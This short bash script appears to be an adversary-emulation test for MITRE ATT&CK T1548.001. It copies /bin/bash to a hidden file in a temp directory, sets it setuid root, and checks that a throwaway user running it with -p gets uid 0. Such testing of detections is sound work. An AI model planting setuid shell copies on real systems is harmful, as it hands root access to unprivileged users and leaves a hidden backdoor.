#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1548.001
# tactic: privilege-escalation
# what: a copy of bash made setuid root, then run by the throwaway user with -p
. "$AT_LIB"
chmod 755 "$AT_TMP"
cp /bin/bash "$AT_TMP/.sh"
chmod 4755 "$AT_TMP/.sh"
at_as_victim "$AT_TMP/.sh -p -c 'id -u' " | grep -qx 0
